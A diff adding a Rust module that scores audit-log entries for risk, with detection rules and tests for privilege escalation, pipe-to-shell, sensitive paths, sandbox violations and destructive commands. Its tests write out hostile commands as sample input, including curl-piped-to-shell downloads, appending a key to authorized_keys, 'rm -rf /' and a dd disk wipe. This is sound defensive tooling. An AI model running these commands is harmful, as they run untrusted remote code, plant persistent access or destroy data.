@@ -1,0 +1,225 @@
+//! Advisory risk scores for audit entries, from documented rules.
+//!
+//! The score (0-100) helps a human find what to look at; enforcement is the kernel's.
+//! Each matching rule adds its weight; the sum is capped at 100.
+//!
+//! | rule | weight | matches |
+//! |---|---|---|
+//! | `privilege-escalation` | 50 | a `sudo`, `su`, `doas`, `pkexec`, `setcap` word; `chmod` with `+s`, `u+s`, `g+s` or a 4-digit mode starting 2-7; `chown root` |
+//! | `pipe-to-shell` | 50 | `curl` or `wget` output piped into `sh`, `bash`, `zsh`, `dash`, `python`, `perl` (also via `sudo`) |
+//! | `sensitive-path` | 40 | `~/.ssh`, `/.ssh/`, `/etc/`, `/root`, `/boot`, `/proc/sys`, `/sys/`, `.bashrc`, `.profile`, `authorized_keys`, `/var/run/docker.sock` |
+//! | `denied` | 40 | the request was refused (result `denied`) |
+//! | `sandbox-violation` | 60 | the action is `sandbox_violation` or the detail mentions a seccomp or Landlock denial |
+//! | `limit-hit` | 20 | the action is `limit_hit` |
+//! | `destructive` | 30 | `rm -rf /`, `rm -rf ~`, `mkfs`, `dd of=/dev/` |
+
+use serde::{Deserialize, Serialize};
+
+/// A score and the rules that produced it.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Risk {
+    /// 0 (routine) to 100 (look now).
+    pub score: u8,
+    /// Names of the matching rules.
+    pub rules: Vec<String>,
+}
+
+const ESCALATION_WORDS: [&str; 5] = ["sudo", "su", "doas", "pkexec", "setcap"];
+const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "dash", "python", "perl"];
+const SENSITIVE: [&str; 11] = [
+    "~/.ssh",
+    "/.ssh/",
+    "/etc/",
+    "/root",
+    "/boot",
+    "/proc/sys",
+    "/sys/",
+    ".bashrc",
+    ".profile",
+    "authorized_keys",
+    "/var/run/docker.sock",
+];
+
+/// Scores one action. `result` is `ok`, `denied`, `error`, ...
+pub fn score(action: &str, detail: &str, result: &str) -> Risk {
+    let mut risk = Risk::default();
+    let mut add = |rule: &str, weight: u8| {
+        risk.score = risk.score.saturating_add(weight).min(100);
+        risk.rules.push(rule.to_string());
+    };
+    let words = words(detail);
+    if escalation(&words) {
+        add("privilege-escalation", 50);
+    }
+    if pipe_to_shell(detail) {
+        add("pipe-to-shell", 50);
+    }
+    if SENSITIVE.iter().any(|s| detail.contains(s)) {
+        add("sensitive-path", 40);
+    }
+    if result == "denied" {
+        add("denied", 40);
+    }
+    let lower = detail.to_ascii_lowercase();
+    if action == "sandbox_violation" || lower.contains("seccomp") || lower.contains("landlock") {
+        add("sandbox-violation", 60);
+    }
+    if action == "limit_hit" {
+        add("limit-hit", 20);
+    }
+    if destructive(&words, detail) {
+        add("destructive", 30);
+    }
+    risk
+}
+
+/// Splits a command line into words, treating shell operators as separators and
+/// stripping directories (`/usr/bin/sudo` counts as `sudo`).
+fn words(detail: &str) -> Vec<&str> {
+    detail
+        .split(|c: char| c.is_whitespace() || ";|&()`$<>'\"".contains(c))
+        .filter(|w| !w.is_empty())
+        .map(|w| w.rsplit('/').next().unwrap_or(w))
+        .collect()
+}
+
+fn escalation(words: &[&str]) -> bool {
+    if words.iter().any(|w| ESCALATION_WORDS.contains(w)) {
+        return true;
+    }
+    for pair in words.windows(2) {
+        let (cmd, arg) = (pair[0], pair[1]);
+        if cmd == "chmod" && (arg.contains("+s") || setid_mode(arg)) {
+            return true;
+        }
+        if cmd == "chown" && arg.starts_with("root") {
+            return true;
+        }
+    }
+    false
+}
+
+/// A four-digit octal mode with setuid/setgid bits (e.g. 4755, 2755).
+fn setid_mode(arg: &str) -> bool {
+    arg.len() == 4
+        && arg.chars().all(|c| c.is_ascii_digit())
+        && matches!(arg.as_bytes()[0], b'2'..=b'7')
+}
+
+fn pipe_to_shell(detail: &str) -> bool {
+    let stages: Vec<&str> = detail.split('|').collect();
+    stages.windows(2).any(|pair| {
+        let fetch = words(pair[0]).iter().any(|w| *w == "curl" || *w == "wget");
+        let next = words(pair[1]);
+        let runner = next.iter().find(|w| **w != "sudo" && !w.starts_with('-'));
+        fetch && runner.is_some_and(|r| SHELLS.iter().any(|s| r.starts_with(s)))
+    })
+}
+
+fn destructive(words: &[&str], detail: &str) -> bool {
+    let rm_root = words.windows(3).any(|w| {
+        w[0] == "rm"
+            && w[1].starts_with('-')
+            && w[1].contains('r')
+            && (w[2].is_empty() || w[2] == "~")
+    }) || detail.contains("rm -rf / ")
+        || detail.trim_end().ends_with("rm -rf /");
+    rm_root || words.iter().any(|w| w.starts_with("mkfs")) || detail.contains("of=/dev/")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn has(action: &str, detail: &str, result: &str, rule: &str) -> bool {
+        score(action, detail, result)
+            .rules
+            .iter()
+            .any(|r| r == rule)
+    }
+
+    #[test]
+    fn escalation_rules() {
+        assert!(has("exec", "sudo rm x", "ok", "privilege-escalation"));
+        assert!(has(
+            "exec",
+            "echo hi; /usr/bin/su -",
+            "ok",
+            "privilege-escalation"
+        ));
+        assert!(has(
+            "exec",
+            "chmod u+s ./a.out",
+            "ok",
+            "privilege-escalation"
+        ));
+        assert!(has(
+            "exec",
+            "chmod 4755 ./a.out",
+            "ok",
+            "privilege-escalation"
+        ));
+        assert!(!has(
+            "exec",
+            "chmod 755 ./a.out",
+            "ok",
+            "privilege-escalation"
+        ));
+        assert!(!has("exec", "echo sugar sue", "ok", "privilege-escalation"));
+    }
+
+    #[test]
+    fn pipe_to_shell_rules() {
+        assert!(has(
+            "exec",
+            "curl -fsSL https://x.sh | sh",
+            "ok",
+            "pipe-to-shell"
+        ));
+        assert!(has(
+            "exec",
+            "wget -qO- x|sudo bash -s",
+            "ok",
+            "pipe-to-shell"
+        ));
+        assert!(has("exec", "curl x | python3 -", "ok", "pipe-to-shell"));
+        assert!(!has("exec", "curl x | jq .", "ok", "pipe-to-shell"));
+        assert!(!has("exec", "cat x | sh", "ok", "pipe-to-shell"));
+    }
+
+    #[test]
+    fn paths_denials_and_violations() {
+        assert!(has(
+            "exec",
+            "echo k >> ~/.ssh/authorized_keys",
+            "ok",
+            "sensitive-path"
+        ));
+        assert!(has("write", "/etc/passwd", "ok", "sensitive-path"));
+        assert!(has("exec", "ls", "denied", "denied"));
+        assert!(has(
+            "sandbox_violation",
+            "ptrace EPERM",
+            "denied",
+            "sandbox-violation"
+        ));
+        assert_eq!(score("exec", "ls -la", "ok").score, 0);
+        assert_eq!(
+            score("sandbox_violation", "sudo curl x|sh ~/.ssh", "denied").score,
+            100
+        );
+    }
+
+    #[test]
+    fn destructive_rules() {
+        assert!(has("exec", "rm -rf /", "ok", "destructive"));
+        assert!(has("exec", "rm -rf ~", "ok", "destructive"));
+        assert!(has(
+            "exec",
+            "dd if=/dev/zero of=/dev/sda",
+            "ok",
+            "destructive"
+        ));
+        assert!(!has("exec", "rm -rf ./build", "ok", "destructive"));
+    }
+}
